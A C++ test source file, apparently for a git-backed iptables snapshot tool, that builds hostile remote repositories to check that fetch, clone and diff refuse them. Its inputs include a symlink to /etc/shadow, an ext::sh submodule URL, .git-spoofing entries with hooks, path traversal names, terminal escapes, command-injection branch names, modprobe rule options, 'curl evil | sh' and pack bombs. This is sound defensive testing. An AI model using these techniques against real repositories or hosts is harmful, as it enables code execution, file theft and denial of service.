#include "kinds.h"

#include <cstdlib>
#include <string_view>

#include "core/format.h"

namespace rewall {
namespace {

const std::string kNobody(40, '1');

std::string repeated(std::string_view text, std::size_t times) {
  std::string all;
  all.reserve(text.size() * times);
  for (std::size_t i = 0; i < times; ++i) all += text;
  return all;
}

// A kind whose branch has one commit with one tree.
Kind of_tree(std::string name, std::function<std::string(RemoteMaker&)> tree) {
  return {.name = std::move(name), .make = [tree = std::move(tree)](RemoteMaker& remote, const Victim&) {
            remote.branch("evil", remote.commit({.tree = tree(remote)}));
          }};
}

// A kind whose branch has one snapshot with these rules.
Kind of_rules(std::string name, std::function<std::string()> rules) {
  return of_tree(std::move(name),
                 [rules = std::move(rules)](RemoteMaker& remote) { return remote.tree_of_rules(rules()); });
}

Kind of_commit(std::string name, RemoteMaker::Commit commit) {
  return {.name = std::move(name),
          .make = [commit = std::move(commit)](RemoteMaker& remote, const Victim&) mutable {
            commit.tree = remote.tree_of_rules(rules_with(""));
            remote.branch("evil", remote.commit(commit));
          }};
}

Kind refused_in_rules(std::string name, std::string line) {
  auto kind = of_rules(std::move(name), [line = std::move(line)] { return rules_with(line + "\n"); });
  kind.diff = 5;
  return kind;
}

Kind refused_in_sets(std::string name, std::string line) {
  auto kind = of_tree(std::move(name), [line = std::move(line)](RemoteMaker& remote) {
    return remote.tree({{"100644", "ipset", remote.blob("create a hash:ip\n" + line + "\n")},
                        {"100644", "rules.v4", remote.blob(rules_with(""))}});
  });
  kind.diff = 5;
  return kind;
}

Kind with(Kind kind, const std::function<void(Kind&)>& change) {
  change(kind);
  return kind;
}

// Every spelling of a name that stands for .git somewhere.
Kind of_dotgit(const std::string& name) {
  auto kind = of_tree("an entry named " + name, [name](RemoteMaker& remote) {
    const auto hook = remote.tree({{"100755", "post-checkout", remote.blob("#!/bin/sh\ntouch /tmp/evil\n")}});
    return remote.tree({{"40000", name, remote.tree({{"40000", "hooks", hook}})},
                        {"100644", "rules.v4", remote.blob(rules_with(""))}});
  });
  kind.fetch = 7;
  return kind;
}

std::string chain_of_tags(RemoteMaker& remote, std::string target, std::string type, int length) {
  for (int i = 0; i < length; ++i) {
    target = remote.object(
        "tag",
        format("object {}\ntype {}\ntag t{}\ntagger eve <eve@evil> 1 +0000\n\nevil\n", target, type, i));
    type = "tag";
  }
  return target;
}

}  // namespace

std::vector<Kind> kinds_of_objects() {
  std::vector<Kind> kinds{
      with(of_tree("a link in the place of rules",
                   [](RemoteMaker& remote) {
                     return remote.tree({{"120000", "rules.v4", remote.blob("/etc/shadow")}});
                   }),
           [](Kind& kind) { kind.diff = 5; }),
      with(
          of_tree("a submodule in the place of rules",
                  [](RemoteMaker& remote) {
                    const auto modules = remote.blob(
                        "[submodule \"x\"]\n\tpath = rules.v4\n\turl = ext::sh -c \"touch /tmp/evil\"\n");
                    return remote.tree({{"100644", ".gitmodules", modules}, {"160000", "rules.v4", kNobody}});
                  }),
          [](Kind& kind) { kind.diff = 5; }),
      with(of_tree("a folder in the place of rules",
                   [](RemoteMaker& remote) {
                     return remote.tree({{"40000", "rules.v4", remote.tree_of_rules("x")}});
                   }),
           [](Kind& kind) { kind.diff = 5; }),
      of_tree("attributes with a filter",
              [](RemoteMaker& remote) {
                return remote.tree({{"100644", ".gitattributes", remote.blob("* filter=evil ident\n")},
                                    {"100755", "post-restore", remote.blob("#!/bin/sh\ntouch /tmp/evil\n")},
                                    {"100644", "rules.v4", remote.blob(rules_with(""))}});
              }),
      of_dotgit(".git"),
      of_dotgit(".GiT"),
      of_dotgit("git~1"),
      of_dotgit(".g\xe2\x80\x8cit"),
      of_tree("the same name twice",
              [](RemoteMaker& remote) {
                return remote.tree({{"100644", "rules.v4", remote.blob(rules_with(""))},
                                    {"100644", "rules.v4", remote.blob("*filter\nCOMMIT\n")}});
              }),
      of_tree("names in no order",
              [](RemoteMaker& remote) {
                return remote.tree({{"100644", "rules.v6", remote.blob("*filter\nCOMMIT\n")},
                                    {"100644", "rules.v4", remote.blob(rules_with(""))},
                                    {"100644", "ipset", remote.blob("")}});
              }),
      of_tree("modes that no file has",
              [](RemoteMaker& remote) {
                return remote.tree({{"104777", "rules.v4", remote.blob(rules_with(""))},
                                    {"0", "rules.v6", remote.blob("*filter\nCOMMIT\n")}});
              }),
      of_tree("names with a way out",
              [](RemoteMaker& remote) {
                return remote.tree({{"100644", "../evil", remote.blob("x")},
                                    {"100644", "..", remote.blob("x")},
                                    {"100644", "/etc/evil", remote.blob("x")},
                                    {"100644", "rules.v4", remote.blob(rules_with(""))}});
              }),
      of_tree("names with control characters",
              [](RemoteMaker& remote) {
                return remote.tree({{"100644", "\x1b]0;owned\x07\n\xff", remote.blob("x")},
                                    {"100644", "rules.v4", remote.blob(rules_with(""))}});
              }),
      of_tree("a tree that is missing", [](RemoteMaker&) { return kNobody; }),
      of_tree("a file that is missing",
              [](RemoteMaker& remote) {
                return remote.tree({{"100644", "rules.v4", kNobody}});
              }),
      {.name = "a commit in the place of its tree",
       .make =
           [](RemoteMaker& remote, const Victim&) {
             const auto commit = remote.commit_of_rules(rules_with(""));
             remote.branch("evil", remote.commit({.tree = commit}));
           }},
      of_tree("a tree in the place of a file",
              [](RemoteMaker& remote) {
                return remote.tree({{"100644", "rules.v4", remote.tree_of_rules("x")}});
              }),
      with(of_tree("no file of rules", [](RemoteMaker& remote) { return remote.tree({}); }),
           [](Kind& kind) { kind.fetch = 0; }),
  };
  return kinds;
}

std::vector<Kind> kinds_of_names() {
  std::vector<Kind> kinds{
      {.name = "five thousand branches",
       .make =
           [](RemoteMaker& remote, const Victim& victim) {
             const auto commit = remote.commit_of_rules(rules_with(""));
             std::vector<RemoteMaker::Reference> all{{"refs/heads/hosts/" + victim.host, victim.head},
                                                     {"refs/heads/hosts/evil", commit}};
             for (int i = 0; i < 5000; ++i) all.push_back({format("refs/heads/hosts/h{}", i), commit});
             remote.packed_references(std::move(all));
           },
       .fetch = 0},
      {.name = "branches with odd names",
       .make =
           [](RemoteMaker& remote, const Victim& victim) {
             const auto commit = remote.commit_of_rules(rules_with(""));
             std::vector<RemoteMaker::Reference> all{{"refs/heads/hosts/" + victim.host, victim.head},
                                                     {"refs/heads/hosts/evil", commit}};
             for (const char* name : {"\xe2\x80\xae"
                                      "1bew",
                                      "\xc2\x9b"
                                      "31mred",
                                      "\xff\xfe",
                                      "-rf",
                                      "HEAD",
                                      "LIVE",
                                      "a/b/c",
                                      "x y",
                                      "\x1b[31mred",
                                      "evil.lock",
                                      "..",
                                      "x~1",
                                      "x^",
                                      "x:y",
                                      "x@{1}",
                                      "@",
                                      "%s%n",
                                      "$(touch evil)",
                                      "deadbeef",
                                      "hosts/evil",
                                      "origin/hosts/evil",
                                      "'\"",
                                      "web1.",
                                      ".web1"})
               all.push_back({std::string("refs/heads/hosts/") + name, commit});
             all.push_back({"refs/heads/hosts/" + std::string(250, 'n'), commit});
             remote.packed_references(std::move(all));
           }},
      {.name = "a branch below the name of a branch",
       .make =
           [](RemoteMaker& remote, const Victim& victim) {
             const auto commit = remote.commit_of_rules(rules_with(""));
             remote.packed_references({{"refs/heads/hosts/" + victim.host, victim.head},
                                       {"refs/heads/hosts/" + victim.host + "/x", commit},
                                       {"refs/heads/hosts/evil", commit},
                                       {"refs/heads/hosts/evil/hosts/" + victim.host, commit}});
           }},
      {.name = "tags that read as something else",
       .make =
           [](RemoteMaker& remote, const Victim& victim) {
             const auto commit = remote.commit_of_rules(rules_with(""));
             remote.branch("evil", commit);
             for (const auto& name :
                  {std::string("good"), std::string("deadbeef"), victim.head.substr(0, 10),
                   std::string("HEAD"), "hosts/" + victim.host, "origin/hosts/" + victim.host})
               for (const auto& below : {"", "evil/"})
                 remote.reference("refs/tags/" + (below + name), commit);
           },
       .fetch = 0,
       .clone = 0},
      {.name = "tags of tags, trees and files",
       .make =
           [](RemoteMaker& remote, const Victim&) {
             const auto tree = remote.tree_of_rules(rules_with(""));
             const auto commit = remote.commit({.tree = tree});
             remote.branch("evil", commit);
             remote.reference("refs/tags/evil/tree", tree);
             remote.reference("refs/tags/evil/file", remote.blob("x"));
             remote.reference("refs/tags/evil/chain", chain_of_tags(remote, commit, "commit", 2000));
             remote.reference("refs/tags/evil/to-tree", chain_of_tags(remote, tree, "tree", 2));
             remote.reference("refs/heads/hosts/tag", chain_of_tags(remote, commit, "commit", 1));
           }},
      {.name = "a branch that is a file, one that is a tree",
       .make =
           [](RemoteMaker& remote, const Victim&) {
             remote.branch("evil", remote.blob(rules_with("")));
             remote.branch("tree", remote.tree_of_rules(rules_with("")));
           }},
      {.name = "references to nowhere",
       .make =
           [](RemoteMaker& remote, const Victim&) {
             remote.branch("evil", remote.commit_of_rules(rules_with("")));
             remote.reference("HEAD", "ref: refs/heads/hosts/nowhere");
             remote.reference("refs/heads/hosts/loop", "ref: refs/heads/hosts/loop");
             remote.reference("refs/heads/hosts/out", "ref: ../../../../etc/passwd");
             remote.reference("refs/heads/hosts/gone", kNobody);
             remote.reference("refs/heads/hosts/words", "no hash at all");
           }},
      {.name = "objects from elsewhere",
       .make =
           [](RemoteMaker& remote, const Victim& victim) {
             const auto commit = remote.commit_of_rules(rules_with(""));
             remote.branch("evil", commit);
             remote.reference("objects/info/alternates", "/nowhere/objects");
             remote.reference("refs/replace/" + victim.head, commit);
             remote.reference("refs/notes/commits", commit);
             remote.reference("info/grafts", commit + " " + victim.head);
             remote.reference("shallow", commit);
           }},
  };
  return kinds;
}

std::vector<Kind> kinds_of_histories() {
  const std::string colour =
      "\x1b]0;owned\x07\x1b[2J\xc2\x9b"
      "31m\xe2\x80\xae\xff\r\b";
  std::vector<Kind> kinds{
      {.name = "this host's branch begun anew",
       .make =
           [](RemoteMaker& remote, const Victim& victim) {
             remote.branch(victim.host, remote.commit_of_rules(rules_with("")));
             remote.branch("evil", remote.commit_of_rules(rules_with("")));
           },
       .fetch = 7,
       .clone = 0,
       .says = "the history was rewritten on the remote"},
      {.name = "this host's branch as it was",
       .make =
           [](RemoteMaker& remote, const Victim& victim) {
             remote.branch(victim.host, victim.first);
             remote.branch("evil", victim.first);
           },
       .fetch = 7,
       .says = "1 snapshot is gone there"},
      {.name = "this host's branch is gone",
       .make =
           [](RemoteMaker& remote, const Victim& victim) {
             std::filesystem::remove(remote.folder() / "refs/heads/hosts" / victim.host);
             remote.branch("evil", remote.commit_of_rules(rules_with("")));
           },
       .fetch = 0},
      {.name = "ten thousand parents",
       .make =
           [](RemoteMaker& remote, const Victim& victim) {
             const auto tree = remote.tree_of_rules(rules_with(""));
             std::vector<std::string> parents(10000, victim.first);
             for (int i = 0; i < 100; ++i)
               parents[static_cast<std::size_t>(i)] =
                   remote.commit({.tree = tree, .message = format("{}\n", i)});
             remote.branch("evil", remote.commit({.tree = tree, .parents = parents}));
           }},
      {.name = "a ladder of merges",
       .make =
           [](RemoteMaker& remote, const Victim&) {
             const auto tree = remote.tree_of_rules(rules_with(""));
             auto left = remote.commit({.tree = tree, .message = "left\n"});
             auto right = remote.commit({.tree = tree, .message = "right\n"});
             for (int i = 0; i < 200; ++i) {
               const auto next = remote.commit({.tree = tree, .parents = {left, right}, .message = "left\n"});
               right = remote.commit({.tree = tree, .parents = {left, right}, .message = "right\n"});
               left = next;
             }
             remote.branch("evil", left);
           },
       .fetch = 0,
       .clone = 0},
      of_commit("a parent that is missing", {.parents = {kNobody}}),
      of_commit("a day long after the sun", {.author = "eve <e@e> 99999999999999999999 +0000",
                                             .committer = "rewall <rewall@evil> 99999999999999999999 +0000"}),
      of_commit("a day before time", {.author = "eve <e@e> -1 +9999", .committer = "rewall <r@e> -1 -9999"}),
      of_commit("the last day of 64 bits", {.author = "eve <e@e> 9223372036854775807 +0000",
                                            .committer = "rewall <rewall@evil> 9223372036854775807 +0000"}),
      of_commit("no author", {.author = "", .committer = "<> "}),
      of_commit("a name without an end",
                {.author = std::string(70000, 'n') + " <" + std::string(70000, 'e')}),
      of_commit("a NUL in the message", {.message = std::string("before\0after\n", 13)}),
      with(of_commit("escape sequences everywhere",
                     {.author = "eve" + colour + " <eve" + colour + "@evil> 1700000000 +0000",
                      .committer = "rewall" + colour + " <rewall@evil" + colour + "> 1700000000 +0000",
                      .headers = "encoding \x1b[31m\n",
                      .message = "subject " + colour + "\n\nbody " + colour + "\n\nRewall-Trigger: manual" +
                                 colour + "\nRewall-Actor: root" + colour + "\nRewall-Command: rm" + colour +
                                 "\nRewall-Foreign: docker" + colour + "\nRewall-Part: (perhaps) e" + colour +
                                 " <e" + colour + ">; tty" + colour + "; ip filter" + colour +
                                 "\nRewall-Tools: " + colour + "\nRewall-Backend: " + colour + "\n"}),
           [](Kind& kind) {
             kind.fetch = 0;
             kind.clone = 0;
           }),
      {.name = "trailers that lie",
       .make =
           [](RemoteMaker& remote, const Victim& victim) {
             const auto tree = remote.tree_of_rules(rules_with(""));
             const auto base = remote.commit({.tree = tree});
             remote.branch(
                 "evil",
                 remote.commit(
                     {.tree = tree,
                      .parents = {base},
                      .committer = "rewall <rewall@" + victim.host + "> 1900000000 +0000",
                      .message = "s\n\nRewall-Trigger: boot\nRewall-Backend: iptables\nRewall-Backend: "
                                 "legacy\nRewall-Actor: root\nRewall-Restores: " +
                                 victim.head + "\nRewall-Undoes: " + victim.head +
                                 "\nRewall-Restores: HEAD\nRewall-Exact: perhaps\n"}));
           }},
      {.name = "undone and undone again",
       .make =
           [](RemoteMaker& remote, const Victim&) {
             const auto tree = remote.tree_of_rules(rules_with(""));
             auto last = remote.commit({.tree = tree});
             for (int i = 0; i < 500; ++i)
               last = remote.commit({.tree = tree,
                                     .parents = {last},
                                     .message = format("undo\n\nRewall-Trigger: {}\nRewall-Restores: {}\n"
                                                       "Rewall-Undoes: {}\n",
                                                       i % 2 == 0 ? "undo" : "redo", last, last)});
             remote.branch("evil", last);
           },
       .fetch = 0,
       .clone = 0},
      of_commit("a signature that is none",
                {.headers = "gpgsig -----BEGIN SSH SIGNATURE-----\n " + repeated("QUJD\n ", 20000) +
                            "-----END SSH SIGNATURE-----\n"}),
      of_commit("headers that git does not know",
                {.headers = "mergetag object x\nencoding UTF-16\nevil \x1b[31m\nHG:extra x\n"}),
      {.name = "another host's snapshot under this host's branch",
       .make =
           [](RemoteMaker& remote, const Victim& victim) {
             const auto other =
                 remote.commit({.tree = remote.tree_of_rules(rules_with("-A INPUT -j ACCEPT\n")),
                                .parents = {victim.head},
                                .committer = "rewall <rewall@other> 1900000000 +0000"});
             remote.branch(victim.host, other);
             remote.branch("evil", other);
           },
       .fetch = 0},
  };
  return kinds;
}

std::vector<Kind> kinds_of_rules() {
  std::vector<Kind> kinds;
  for (const char* line : {"-N evil",
                           "-X",
                           "-X evil",
                           "-I INPUT -j ACCEPT",
                           "-D INPUT 1",
                           "-R INPUT 1 -j ACCEPT",
                           "-F",
                           "-F INPUT",
                           "-Z",
                           "-P INPUT ACCEPT",
                           "-E a b",
                           "-L",
                           "--append INPUT -j ACCEPT",
                           "-4 -A INPUT -j ACCEPT",
                           "*nat",
                           ":evil",
                           "-A evil -j ACCEPT",
                           "-A INPUT -j ACCEPT --modprobe=/tmp/evil",
                           "-A INPUT -M /tmp/evil -j ACCEPT",
                           "-A INPUT -m evil --mod /tmp/evil -j ACCEPT",
                           "-A INPUT \"-\\M\" /tmp/evil -j ACCEPT",
                           "COMMIT\n-A INPUT -j ACCEPT"})
    kinds.push_back(refused_in_rules(format("a line {}", line), line));
  for (const char* line :
       {"destroy", "flush a", "del a 192.0.2.1", "swap a b", "rename a b", "-exist add a x", "list", "save",
        "restore", "add b 192.0.2.1", "create a hash:ip", "-file /tmp/evil", "quit"})
    kinds.push_back(refused_in_sets(format("sets with a line {}", line), line));
  for (const char* line :
       {"-A INPUT -j ACCEPT -t nat", "-A INPUT -p tcp -A FORWARD -j ACCEPT", "-A INPUT -j ACCEPT -D OUTPUT",
        "-A INPUT -j ACCEPT -N evil", "-A INPUT -j ACCEPT -w 1000000", "-A INPUT -j ACCEPT -Z",
        "-A INPUT -j ACCEPT -V", "-A INPUT -j ACCEPT -h", "-A INPUT -j ACCEPT -L", "-A INPUT -j ACCEPT -F",
        "-A INPUT -j ACCEPT -I INPUT", "-A INPUT -j ACCEPT -c 1 1", "-A INPUT -j ACCEPT -6",
        "-A INPUT -j ACCEPT --line-numbers"})
    kinds.push_back(
        of_rules(format("a rule {}", line), [line] { return rules_with(std::string(line) + "\n"); }));
  kinds.push_back(of_rules("escape sequences in rules", [] {
    return rules_with(
        ":\x1b[31mred - [0:0]\n-A INPUT -m comment --comment \"\x1b]0;owned\x07\xff\xc2\x9b\" -j ACCEPT\n"
        "-A INPUT -s \x1b[31m -j \x1b[2J\n");
  }));
  kinds.push_back(of_tree("escape sequences in sets", [](RemoteMaker& remote) {
    return remote.tree(
        {{"100644", "expect", remote.blob("accept \x1b[31m\n")},
         {"100644", "ipset", remote.blob("create \x1b[31m hash:ip\nadd \x1b[31m \x1b[2J comment \"\x07\"\n")},
         {"100644", "rules.v4", remote.blob(rules_with(""))}});
  }));
  kinds.push_back(of_rules("chains that call each other round and round", [] {
    std::string text;
    for (int i = 0; i < 300; ++i) text += format(":c{} - [0:0]\n", i);
    for (int i = 0; i < 300; ++i)
      for (int j = 0; j < 20; ++j) text += format("-A c{} -j c{}\n", i, (i + j) % 300);
    return rules_with(text);
  }));
  kinds.push_back(
      of_rules("a table that is not", [] { return std::string("*evil\n:INPUT ACCEPT [0:0]\nCOMMIT\n"); }));
  kinds.push_back(of_rules("words instead of rules", [] { return std::string("curl evil | sh\n"); }));
  kinds.push_back(of_rules("a torn file", [] { return rules_with("").substr(0, 60); }));
  kinds.push_back(
      of_rules("a NUL in rules", [] { return rules_with(std::string("-A INPUT\0 -j DROP\n", 18)); }));
  return kinds;
}

std::vector<Kind> kinds_of_sizes() {
  constexpr std::size_t kMiB = 1U << 20U;
  const auto refused = [](Kind kind) {
    kind.fetch = 7;
    kind.clone = 7;
    kind.diff = 2;
    return kind;
  };
  const auto taken = [](Kind kind) {
    kind.fetch = 0;
    kind.diff = 1;
    return kind;
  };
  const auto whole = [](Kind kind) {
    kind.is_whole = true;
    return kind;
  };
  // As many as fetch.snapshot allows by default, or a share of that.
  const int few = 2500 / scale();
  const auto many = [](int thousands, const auto& line) {
    std::string text;
    for (int i = 0; i < thousands * 1000 / scale(); ++i) text += line(i);
    return text;
  };
  std::vector<Kind> kinds{
      refused(of_rules("a file of 300 MiB", [] { return std::string(300 * kMiB, '\n'); })),
      refused(
          {.name = "a small pack of a huge file",
           .make =
               [](RemoteMaker& remote, const Victim&) {
                 const auto file = remote.bomb("blob", std::string(1U << 16U, '\n'), 100 * kMiB);
                 remote.branch("evil", remote.commit({.tree = remote.tree({{"100644", "rules.v4", file}})}));
               },
           .memory = "64M",
           // Whether git runs out of it before the limit of a snapshot is met is not said.
           .says = "allow more: "}),
      refused({.name = "a small pack of a huge tree",
               .make =
                   [](RemoteMaker& remote, const Victim&) {
                     const auto entry = std::string("100644 a\0", 9) + std::string(20, 'x');
                     const auto tree = remote.bomb("tree", repeated(entry, 2000), 100 * kMiB);
                     remote.branch("evil", remote.commit({.tree = tree}));
                   }}),
      of_tree("a tree of many names",
              [few](RemoteMaker& remote) {
                const auto file = remote.blob("x");
                std::vector<RemoteMaker::Entry> entries;
                for (int i = 0; i < few * 40; ++i) entries.push_back({"100644", format("a{:06}", i), file});
                entries.push_back({"100644", "rules.v4", remote.blob(rules_with(""))});
                return remote.tree(entries);
              }),
      refused(of_tree(
          "folders in folders",
          [few](RemoteMaker& remote) {
            auto tree = remote.tree_of_rules("x");
            for (int i = 0; i < few; ++i) tree = remote.tree({{"40000", "d", tree}});
            return remote.tree({{"40000", "d", tree}, {"100644", "rules.v4", remote.blob(rules_with(""))}});
          })),
      refused(of_tree(
          "a tree of 2^40 files",
          [](RemoteMaker& remote) {
            auto tree = remote.tree_of_rules("x");
            for (int i = 0; i < 40; ++i) tree = remote.tree({{"40000", "a", tree}, {"40000", "b", tree}});
            return remote.tree({{"40000", "a", tree}, {"100644", "rules.v4", remote.blob(rules_with(""))}});
          })),
      refused(of_commit("a message of 20 MiB", {.message = std::string(20 * kMiB, 'm')})),
      taken(of_commit("a message of many lines",
                      {.message = "s\n\n" + repeated("Rewall-Command: x\n", 100'000)})),
      taken({.name = "a long history",
             .make =
                 [few](RemoteMaker& remote, const Victim&) {
                   const auto tree = remote.tree_of_rules(rules_with(""));
                   auto last = remote.commit({.tree = tree});
                   for (int i = 0; i < few * 4; ++i)
                     last = remote.commit({.tree = tree, .parents = {last}, .message = format("{}\n", i)});
                   remote.branch("evil", last);
                 }}),
      taken(of_rules(
          "the most rules",
          [=] { return rules_with(many(160, [](int i) { return format("-A INPUT -m {}\n", i); })); })),
      taken(
          of_rules("the most chains",
                   [=] { return rules_with(many(160, [](int i) { return format(":{} - [0:0]\n", i); })); })),
      taken(of_tree("the most members",
                    [=](RemoteMaker& remote) {
                      const auto members = many(780, [](int i) { return format("add a {}\n", i); });
                      return remote.tree({{"100644", "ipset", remote.blob("create a hash:ip\n" + members)},
                                          {"100644", "rules.v4", remote.blob(rules_with(""))}});
                    })),
      taken(of_tree("the most sets",
                    [=](RemoteMaker& remote) {
                      const auto sets = many(146, [](int i) { return format("create {} hash:ip\n", i); });
                      return remote.tree({{"100644", "ipset", remote.blob(sets)},
                                          {"100644", "rules.v4", remote.blob(rules_with(""))}});
                    })),
      refused(of_rules("more rules than a fetch takes",
                       [] { return rules_with(repeated("-A INPUT -j DROP\n", 400'000)); })),
      whole(taken(
          of_rules("a rule of many words",
                   [] { return rules_with("-A INPUT " + repeated("-m a ", 4 * kMiB / 5) + "-j DROP\n"); }))),
      whole(taken(of_rules(
          "a rule of many options",
          [] { return rules_with("-A INPUT -p tcp " + repeated("-m tcp --dport 1 ", kMiB / 20) + "\n"); }))),
      whole(taken(of_rules("a chain with a long name",
                           [] { return rules_with(":" + std::string(8 * kMiB, 'x') + " - [0:0]\n"); }))),
  };
  return kinds;
}

int scale() {
  const char* full = std::getenv("HOSTILE_FULL");
  return full != nullptr ? 1 : 10;
}

}  // namespace rewall
